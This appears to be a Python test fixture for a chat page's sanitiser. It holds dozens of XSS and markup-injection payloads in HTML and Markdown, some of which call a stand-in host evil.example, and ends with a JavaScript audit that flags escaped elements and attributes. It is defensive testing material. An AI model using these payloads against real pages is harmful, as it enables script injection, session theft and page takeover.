"""Texts that try to get out of the place where they are shown.

Whatever would run says so by calling `pwned()`, which a test listens to.
"""

from __future__ import annotations

HOST = "http://evil.example"

MARKUP = (
    "<script>pwned('script')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>pwned('closed')</script>",
    "<script\x00>pwned('nul')</script>",
    "<scr<script>ipt>pwned('halves')</scr</script>ipt>",
    f'<img src="{HOST}/a.png" onerror="pwned(1)" onload=pwned(2)>',
    "<img/src=x/onerror=pwned(3)>",
    "<img src=x onerror\n=\npwned(4)//",
    "<svg onload=pwned(5)><animate onbegin=pwned(6) attributeName=x></svg>",
    "<svg><script>pwned(7)</script><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>",
    "<svg><style><img src=x onerror=pwned(8)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned(9)></style></mglyph></math>",
    "<math href='javascript:pwned(10)'>x</math>",
    "<math><maction actiontype='statusline#' xlink:href='javascript:pwned(11)'>x</maction></math>",
    "<annotation-xml encoding='text/html'><img src=x onerror=pwned(12)></annotation-xml>",
    f"<style>@import '{HOST}/x.css'; body {{ display: none }}</style>",
    f'<p style="background: url({HOST}/b.png); position: fixed; inset: 0">over all</p>',
    f'<link rel="stylesheet" href="{HOST}/x.css"><link rel="prefetch" href="{HOST}/x">',
    f'<base href="{HOST}/">',
    f'<meta http-equiv="refresh" content="0; url={HOST}">',
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    f'<iframe src="{HOST}" srcdoc="<script>parent.pwned(13)</script>"></iframe>',
    f'<object data="{HOST}/x.swf"></object><embed src="{HOST}/x.pdf">',
    f'<video poster="{HOST}/p.png" src="{HOST}/v.mp4" autoplay onplay=pwned(14)></video>',
    f'<form action="{HOST}" id="composer"><button autofocus onfocus=pwned(15)>go</button></form>',
    '<input autofocus onfocus=pwned(16) name="text">',
    "<details open ontoggle=pwned(17)><summary>s</summary></details>",
    "<body onload=pwned(18)><marquee onstart=pwned(19)>",
    "<a href='javascript:pwned(20)'>a</a><a href='java&#10;script:pwned(21)'>b</a>",
    "<a href=\"data:text/html,<script>pwned(22)</script>\" ping='//evil.example'>c</a>",
    '<button hx-get="/static/app.js" hx-trigger="load" hx-on:load="pwned(23)">h</button>',
    '<div hx-on--load="pwned(24)" data-hx-get="/" data-hx-trigger="load">h</div>',
    "</div></article></div></main></div></body></html><h1>outside</h1>",
    "</textarea></title></style></noscript></template></select><img src=x onerror=pwned(25)>",
    '" onmouseover="pwned(26)" autofocus onfocus="pwned(27)" x="',
    "' onfocus='pwned(28)' autofocus '",
    "<!-- --!><img src=x onerror=pwned(29)> -->",
    "<![CDATA[<img src=x onerror=pwned(30)>]]>",
    "<?php echo 1 ?><!DOCTYPE html><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "&lt;script&gt;pwned(31)&lt;/script&gt; &#60;img src=x onerror=pwned(32)&#62;",
    '<div id="log" name="body" data-part data-version="999999">clobbered</div>',
    '<div id="status-line" data-part data-slot="status" data-channel="chats">clobbered</div>',
    '<img name="getElementById"><form name="querySelector"></form><a id="htmx">x</a>',
    '<template data-template="gone"><b>forged</b></template><dialog open>forged</dialog>',
    '<p id="__proto__">p</p><p id="constructor">c</p><p id="toString">t</p>',
)

MARKDOWN = (
    "[a](javascript:pwned(40)) [b](JaVaScRiPt:pwned(41)) [c](&#106;avascript:pwned(42))",
    "[d](javascript&colon;pwned(43)) [e](\x01javascript:pwned(44)) [f](java\tscript:pwned(45))",
    "[g](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+) [h](vbscript:pwned(46))",
    "<javascript:pwned(47)> <data:text/html,x> <vbscript:x>",
    "[i][r] ![j][r] [k]\n\n[r]: javascript:pwned(48) 'title'\n[k]: data:text/html,x",
    f'![image]({HOST}/i.png) ![image]({HOST}/i.png "t" ) [![in]({HOST}/i.png)]({HOST})',
    f"![ref][img]\n\n[img]: {HOST}/r.png",
    "![x](javascript:pwned(49)) ![y](data:image/svg+xml,<svg onload=pwned(50)>)",
    "![z](/static/app.js) ![u](//evil.example/i.png)",
    f'[q]({HOST} "quote\\" onmouseover=\\"pwned(51)") [q2]({HOST}/"onclick=pwned(52)//)',
    f"[user](http://good.example@evil.example) [rel](/chats/x/delete) [frag](#composer) {HOST}",
    "[file](file:///etc/passwd) [blob](blob:http://x/1) [r](//evil.example)",
    '```html" onmouseover="pwned(53)\n<script>pwned(54)</script>\n```',
    "```<img/src=x/onerror=pwned(55)>\ncode\n```",
    "`<script>pwned(56)</script>` and ``</code><img src=x onerror=pwned(57)>``",
    "$$\\href{javascript:pwned(58)}{x}$$ $\\text{<img src=x onerror=pwned(59)>}$",
    "$\\class{x}{y}$ $\\style{position:fixed}{z}$ $\\unicode{x3c}$ $</math><script>pwned(60)$",
    "| <script>pwned(61)</script> |\n|:--|\n| <img src=x onerror=pwned(62)> |\n| [x](vbscript:x) |",
    "- [ ] <input onfocus=pwned(64) autofocus>\n- [x] </li></ul><script>pwned(65)</script>",
    "<div>\n\n</div><script>\n\npwned(66)\n\n</script>\n\n<b\n\nonclick=pwned(67)>x</b>",
    "> " * 300 + "deep",
    "".join(" " * (2 * depth) + "- deep\n" for depth in range(150)),
    "[" * 3_000 + "x" + "](y)" * 3_000,
    "*" * 3_000 + "x" + "_" * 3_000,
    "<div>" * 1_500 + "x",
    "a\u202egnp.exe \u2066\u2067\u2068left open \u200f\u061c\ufeff\u200b\u2028\u2029",
    "\x00\x01\x07\x08\x0b\x0c\x1b[31mred\x1b[0m\x7f\x85\ufffe\uffff",
    "e" + "\u0301" * 500 + " Z\u0351\u0343\u0357" * 50,
)

EVERYTHING = (*MARKUP, *MARKDOWN)

AUDIT = """() => {
  const found = [];
  const ours = new Set(["app", "skip", "dialog"]);
  for (const element of document.querySelectorAll("body > *")) {
    const known = element.localName === "template" || ours.has(element.classList[0]);
    if (!known) found.push(`outside: ${element.outerHTML.slice(0, 200)}`);
  }
  const never = "iframe, frame, object, embed, img, video, audio, svg, base, link, style, script";
  for (const element of document.querySelectorAll(`body :is(${never})`)) {
    found.push(`element: ${element.outerHTML.slice(0, 200)}`);
  }
  const ids = new Map();
  for (const element of document.querySelectorAll("*")) {
    if (element.id) ids.set(element.id, (ids.get(element.id) ?? 0) + 1);
    for (const { name, value } of element.attributes) {
      const code = name.startsWith("on") || /^(data-)?hx-on/.test(name) || name === "style";
      if (code) found.push(`attribute: ${name}=${value.slice(0, 100)}`);
      const leads = ["href", "src", "action", "formaction", "xlink:href"].includes(name);
      if (leads && /^\\s*(javascript|vbscript|data(?!:image\\/svg\\+xml,%3Csvg))/i.test(value)) {
        found.push(`address: ${name}=${value.slice(0, 100)}`);
      }
    }
  }
  for (const [id, count] of ids) if (count > 1) found.push(`id twice: ${id}`);
  for (const link of document.querySelectorAll(".md a, .answer a, .thought a")) {
    if (!/^(https?|mailto):/.test(link.getAttribute("href"))) found.push(`link: ${link.outerHTML}`);
    if (!/noopener/.test(link.rel)) found.push(`rel: ${link.outerHTML}`);
  }
  for (const element of document.querySelectorAll(".answer *, .thought *")) {
    const other = element.id && !element.hasAttribute("data-part");
    const named = element.getAttribute("name") || other;
    if (named) found.push(`named: ${element.outerHTML.slice(0, 200)}`);
  }
  return found;
}"""
"""What on the page should not be there: nothing, whatever a model wrote."""
